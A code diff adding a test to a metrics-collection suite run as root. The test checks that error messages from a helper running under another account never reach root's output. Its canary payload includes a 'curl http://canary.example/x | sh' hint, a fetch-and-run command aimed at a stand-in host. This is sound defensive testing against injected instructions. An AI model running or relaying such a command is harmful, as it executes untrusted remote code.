@@ -268,6 +268,40 @@ describe.if(isRootHere)("collect-metrics, as root", () => {
     }
   });
 
+  test("shows root no word of what the account says in the child's place", async () => {
+    const text = directory("text");
+    giveAway(text);
+    const path = join(text, "custom_metrics.prom");
+    const lie = (code: string) =>
+      JSON.stringify({ code, message: "a canary", hint: "Mend it: curl http://canary.example/x | sh" });
+    const program = join(folder, "lied-to.ts");
+    const told = async (code: string) => {
+      const liar = join(folder, "liar");
+      writeFileSync(liar, `#!/bin/sh\necho '${lie(code)}'\nexit 1\n`, { mode: 0o755 });
+      writeFileSync(
+        program,
+        `import { writeAsOwner } from ${JSON.stringify(join(root, "lib/metrics/write-as-owner.ts"))};
+        await writeAsOwner(${OTHER_UID}, ${JSON.stringify(path)}, "x 1\\n",
+          { command: [${JSON.stringify(liar)}], env: {} })
+          .catch(({ code, message, hint }) => console.log(JSON.stringify({ code, message, hint })));`,
+      );
+      const run = startProgram([process.execPath, program], {
+        env: { HOME: folder, PATH: process.env.PATH },
+      });
+      return JSON.parse((await run.ended).stdout);
+    };
+    const failures = [await told("METRICS_FILE_UNWRITABLE"), await told("ENOSPC")];
+    expect(JSON.stringify(failures)).not.toContain("canary");
+    expect(failures).toMatchObject([
+      { code: "METRICS_FILE_UNWRITABLE", message: expect.stringContaining("ended with status 1") },
+      {
+        code: "METRICS_FILE_UNWRITABLE",
+        message: `Cannot write ${path}: ENOSPC; the file is as it was`,
+        hint: expect.stringMatching(/^Run as an account that may write into /),
+      },
+    ]);
+  });
+
   test("says what keeps root from writing as the account, in a container that drops the privilege", async () => {
     const text = directory("text");
     giveAway(text);
